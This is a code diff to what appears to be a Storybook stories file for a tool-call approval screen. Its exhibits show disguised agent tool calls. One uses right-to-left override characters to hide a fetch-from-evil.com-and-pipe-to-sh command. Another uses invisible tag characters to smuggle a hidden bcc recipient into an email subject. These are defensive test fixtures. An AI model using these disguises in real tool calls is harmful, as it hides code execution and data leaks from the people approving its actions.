@@ -18,7 +18,8 @@ const address = (text: string) => ({ toolName: 'open_page', args: { url: text } 
 
 const exhibits = {
   reversedText: {
-    tries: 'Hides the real server by making a part of the address read from right to left.',
+    tries:
+      'Makes a part of the address read from right to left, so that it looks like another than the one that would be called.',
     call: command(attacks.T01_bidi_override),
     shows: [
       '⟦U+202E RLO⟧⟦U+2066 LRI⟧moc.live⟦U+2069 PDI⟧/data | sh',
@@ -32,7 +33,10 @@ const exhibits = {
   },
   hiddenText: {
     tries: 'Carries a second recipient in letters that no screen draws.',
-    call: { toolName: 'send_email', args: { to: 'a@e.io', subject: attacks.T04_tag_smuggling } },
+    call: {
+      toolName: 'send_email',
+      args: { to: 'team@example.test', subject: attacks.T04_tag_smuggling },
+    },
     shows: ['⟦hidden text: bcc:a@e.io⟧', 'Hidden text in “subject”: bcc:a@e.io'],
   },
   hiddenCharacter: {
@@ -329,7 +333,7 @@ export const Benign: Story = {
   },
 };
 
-/** More than fits: Deny at once, Approve only once all of it was opened. */
+/** More than fits, also in a call that its host calls routine: Deny at once, Approve only once all of it was opened. */
 export const TooMuchToSee: Story = {
   args: {
     batch: batchOf('batch-too-much', {
